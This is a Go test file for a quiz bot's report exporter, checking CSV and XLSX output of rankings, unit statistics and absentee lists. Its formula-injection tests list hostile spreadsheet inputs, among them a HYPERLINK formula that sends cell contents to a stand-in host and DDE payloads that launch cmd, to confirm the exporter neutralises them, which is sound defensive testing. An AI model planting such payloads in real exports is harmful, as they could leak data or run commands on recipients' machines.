package report_test

import (
	"bytes"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"quizbot/quiz"
	"quizbot/report"
)

func sampleTables(t *testing.T) (report.Table, report.Table, report.Table) {
	t.Helper()
	loc, err := time.LoadLocation("Asia/Ho_Chi_Minh")
	if err != nil {
		t.Fatal(err)
	}
	start := time.Date(2026, 3, 2, 2, 15, 0, 0, time.UTC) // 09:15 local
	r := report.Rank([]report.Attempt{
		{AttemptID: 1, MemberID: 1, FullName: "Nguyễn Văn An", Phone: "0912345678", UnitCode: "SNV",
			Position: "Chuyên viên, phòng CCHC", Active: true, Correct: 9, Total: 10,
			StartedAt: start, SubmittedAt: start.Add(95*time.Second + 700*time.Millisecond), Prediction: pred(2)},
		{AttemptID: 2, MemberID: 2, FullName: "Trần Thị Bình", Phone: "0987654321", UnitCode: "SGD",
			Active: true, Correct: 0, Total: 10, StartedAt: start, SubmittedAt: start.Add(20 * time.Minute)},
	}, quiz.PredictParticipants)
	results := report.ResultsTable(r, loc)
	units := report.UnitsTable(report.Units([]report.UnitRoster{
		{Code: "SGD", Name: "Sở Giáo dục", Staff: 3, Verified: 1},
		{Code: "SNV", Name: "Sở Nội vụ", Staff: 1, Verified: 1},
		{Code: "XA", Name: "UBND xã A", Staff: 0},
	}, nil))
	absent := report.AbsentTable([]report.Absent{
		{UnitCode: "SGD", FullName: "Lê Văn Cường", Phone: "0901112223", Position: "Kế toán", Verified: false},
		{UnitCode: "SGD", FullName: "Phạm Thị Dung", Phone: "0901112224", Verified: true, Excuse: "nghỉ ốm"},
	})
	return results, units, absent
}

func TestReportCSVExact(t *testing.T) {
	results, _, absent := sampleTables(t)
	var b bytes.Buffer
	if err := report.WriteCSV(&b, results, false); err != nil {
		t.Fatal(err)
	}
	want := "rank,full_name,phone,unit_code,position,correct,total,duration_seconds,prediction,submitted_at\n" +
		"1,Nguyễn Văn An,0912345678,SNV,\"Chuyên viên, phòng CCHC\",9,10,95,2,2026-03-02 09:16:35\n" +
		"2,Trần Thị Bình,0987654321,SGD,,0,10,1200,,2026-03-02 09:35:00\n"
	if b.String() != want {
		t.Fatalf("results csv =\n%s\nwant\n%s", b.String(), want)
	}

	b.Reset()
	if err := report.WriteCSV(&b, absent, true); err != nil {
		t.Fatal(err)
	}
	want = "\uFEFFunit_code,full_name,phone,position,verified,reason\n" +
		"SGD,Lê Văn Cường,0901112223,Kế toán,không,chưa kích hoạt\n" +
		"SGD,Phạm Thị Dung,0901112224,,có,nghỉ ốm\n"
	if b.String() != want {
		t.Fatalf("absent csv =\n%q\nwant\n%q", b.String(), want)
	}
	if !bytes.HasPrefix(b.Bytes(), []byte{0xEF, 0xBB, 0xBF}) {
		t.Error("no UTF-8 BOM")
	}
}

func TestReportCSVRejectsUnknownCell(t *testing.T) {
	tb := report.Table{Name: "x", Columns: []string{"a"}, Rows: [][]any{{3.5}}}
	if err := report.WriteCSV(&bytes.Buffer{}, tb, false); err == nil || !strings.Contains(err.Error(), "float64") {
		t.Fatalf("err = %v, want unsupported float64", err)
	}
}

func TestReportXLSXReadBack(t *testing.T) {
	results, units, absent := sampleTables(t)
	var b bytes.Buffer
	if err := report.WriteXLSX(&b, results, units, absent); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got := f.GetSheetList(); strings.Join(got, ",") != "results,units,absent" {
		t.Fatalf("sheets = %v", got)
	}

	rows, err := f.GetRows("results")
	if err != nil {
		t.Fatal(err)
	}
	wantRows := [][]string{
		{"rank", "full_name", "phone", "unit_code", "position", "correct", "total", "duration_seconds", "prediction", "submitted_at"},
		{"1", "Nguyễn Văn An", "0912345678", "SNV", "Chuyên viên, phòng CCHC", "9", "10", "95", "2", "2026-03-02 09:16:35"},
		{"2", "Trần Thị Bình", "0987654321", "SGD", "", "0", "10", "1200", "", "2026-03-02 09:35:00"},
	}
	assertRows(t, "results", rows, wantRows)

	// Numbers are numbers, the phone stays text with its leading zero, the
	// time is a spreadsheet date.
	for _, cell := range []string{"A2", "F2", "H3", "I2", "J2"} {
		if !isNumber(t, f, "results", cell) {
			t.Errorf("results!%s is not a number", cell)
		}
	}
	if isNumber(t, f, "results", "C2") {
		t.Error("results!C2, the phone, is a number: its leading zero would be lost")
	}
	if v, _ := f.GetCellValue("results", "J2", excelize.Options{RawCellValue: true}); !strings.HasPrefix(v, "46083.38") {
		t.Errorf("results!J2 raw = %q, want the serial date of 2026-03-02 09:16:35", v)
	}

	// Header bold and frozen, columns sized.
	for _, sheet := range []string{"results", "units", "absent"} {
		id, err := f.GetCellStyle(sheet, "A1")
		if err != nil {
			t.Fatal(err)
		}
		st, err := f.GetStyle(id)
		if err != nil || st.Font == nil || !st.Font.Bold {
			t.Errorf("%s header not bold: %+v %v", sheet, st, err)
		}
		p, err := f.GetPanes(sheet)
		if err != nil || !p.Freeze || p.YSplit != 1 || p.TopLeftCell != "A2" {
			t.Errorf("%s panes = %+v %v, want the header row frozen", sheet, p, err)
		}
	}
	if w, _ := f.GetColWidth("results", "B"); w != 15 { // "Nguyễn Văn An" is 13 characters
		t.Errorf("results column B width = %v, want 15", w)
	}
	if w, _ := f.GetColWidth("results", "A"); w != 8 {
		t.Errorf("results column A width = %v, want the minimum 8", w)
	}

	rows, err = f.GetRows("units")
	if err != nil {
		t.Fatal(err)
	}
	assertRows(t, "units", rows, [][]string{
		{"unit_code", "unit_name", "staff", "verified", "participated", "participation_pct", "avg_correct", "zero_scores"},
		{"SGD", "Sở Giáo dục", "3", "1", "0", "0.0", "", "0"},
		{"SNV", "Sở Nội vụ", "1", "1", "0", "0.0", "", "0"},
		{"XA", "UBND xã A", "0", "0", "0", "", "", "0"},
	})
	if !isNumber(t, f, "units", "F2") {
		t.Error("units!F2 is not a number")
	}

	rows, err = f.GetRows("absent")
	if err != nil {
		t.Fatal(err)
	}
	assertRows(t, "absent", rows, [][]string{
		{"unit_code", "full_name", "phone", "position", "verified", "reason"},
		{"SGD", "Lê Văn Cường", "0901112223", "Kế toán", "không", "chưa kích hoạt"},
		{"SGD", "Phạm Thị Dung", "0901112224", "", "có", "nghỉ ốm"},
	})
}

func TestReportXLSXDecimalsShowFixedPlaces(t *testing.T) {
	tb := report.Table{Name: "units", Columns: []string{"pct", "avg"}, Rows: [][]any{
		{report.Decimal{Scaled: 667, Places: 1}, report.Decimal{Scaled: 450, Places: 2}},
	}}
	var b bytes.Buffer
	if err := report.WriteXLSX(&b, tb); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("units")
	if err != nil {
		t.Fatal(err)
	}
	assertRows(t, "units", rows, [][]string{{"pct", "avg"}, {"66.7", "4.50"}})
	if raw, _ := f.GetCellValue("units", "B2", excelize.Options{RawCellValue: true}); raw != "4.5" {
		t.Errorf("raw avg = %q, want the number 4.5", raw)
	}
}

// assertRows compares sheet rows, ignoring the empty cells excelize trims
// from the end of a row.
func assertRows(t *testing.T, sheet string, got, want [][]string) {
	t.Helper()
	if len(got) != len(want) {
		t.Fatalf("%s: %d rows, want %d:\n%q", sheet, len(got), len(want), got)
	}
	for i := range want {
		w := want[i]
		for len(w) > 0 && w[len(w)-1] == "" {
			w = w[:len(w)-1]
		}
		if strings.Join(got[i], "|") != strings.Join(w, "|") {
			t.Errorf("%s row %d = %q, want %q", sheet, i+1, got[i], w)
		}
	}
}

// isNumber reports whether a cell holds a number: a cell without a type
// attribute is numeric in SpreadsheetML.
func isNumber(t *testing.T, f *excelize.File, sheet, cell string) bool {
	t.Helper()
	typ, err := f.GetCellType(sheet, cell)
	if err != nil {
		t.Fatal(err)
	}
	return typ == excelize.CellTypeUnset || typ == excelize.CellTypeNumber
}

// formulaTexts are texts a head or a roster could carry that a spreadsheet
// would run as a formula, one per leading character OWASP lists.
var formulaTexts = []string{
	`=HYPERLINK("http://x.example/?"&A2,"Bấm vào đây")`,
	"+84912345678",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+1",
	"\r=1+1",
}

func formulaTable() report.Table {
	tb := report.Table{Name: "absent", Columns: []string{"full_name", "reason", "n", "d"}}
	for i, f := range formulaTexts {
		// The numbers beside them stay numbers, negative ones included.
		tb.Rows = append(tb.Rows, []any{f, "nghỉ " + f, -i, report.Decimal{Scaled: int64(-15 * i), Places: 1}})
	}
	return tb
}

func TestReportCSVNeutralisesFormulas(t *testing.T) {
	var b bytes.Buffer
	if err := report.WriteCSV(&b, formulaTable(), false); err != nil {
		t.Fatal(err)
	}
	// Each text cell that starts with one of them gets an apostrophe; one
	// that merely contains it is left alone, and so are the numbers.
	want := "full_name,reason,n,d\n" +
		`"'=HYPERLINK(""http://x.example/?""&A2,""Bấm vào đây"")","nghỉ =HYPERLINK(""http://x.example/?""&A2,""Bấm vào đây"")",0,0.0` + "\n" +
		"'+84912345678,nghỉ +84912345678,-1,-1.5\n" +
		"'-2+3+cmd|' /C calc'!A0,nghỉ -2+3+cmd|' /C calc'!A0,-2,-3.0\n" +
		"'@SUM(1+1)*cmd|' /C calc'!A0,nghỉ @SUM(1+1)*cmd|' /C calc'!A0,-3,-4.5\n" +
		"'\t=1+1,nghỉ \t=1+1,-4,-6.0\n" +
		"\"'\r=1+1\",\"nghỉ \r=1+1\",-5,-7.5\n"
	if b.String() != want {
		t.Errorf("csv =\n%q\nwant\n%q", b.String(), want)
	}
}

func TestReportXLSXWritesFormulasAsText(t *testing.T) {
	var b bytes.Buffer
	if err := report.WriteXLSX(&b, formulaTable()); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	for i, tx := range formulaTexts {
		for col, want := range map[string]string{"A": tx, "B": "nghỉ " + tx} {
			cell := col + strconv.Itoa(i+2)
			typ, err := f.GetCellType("absent", cell)
			if err != nil {
				t.Fatal(err)
			}
			formula, err := f.GetCellFormula("absent", cell)
			if err != nil {
				t.Fatal(err)
			}
			v, err := f.GetCellValue("absent", cell, excelize.Options{RawCellValue: true})
			if err != nil {
				t.Fatal(err)
			}
			// Shown as typed: the cell is text, so nothing runs.
			if typ != excelize.CellTypeInlineString || formula != "" || v != want {
				t.Errorf("%s: type %v, formula %q, value %q; want inline text %q and no formula", cell, typ, formula, v, want)
			}
		}
		if !isNumber(t, f, "absent", "C"+strconv.Itoa(i+2)) || !isNumber(t, f, "absent", "D"+strconv.Itoa(i+2)) {
			t.Errorf("row %d: the numbers are not numbers", i+2)
		}
	}
}
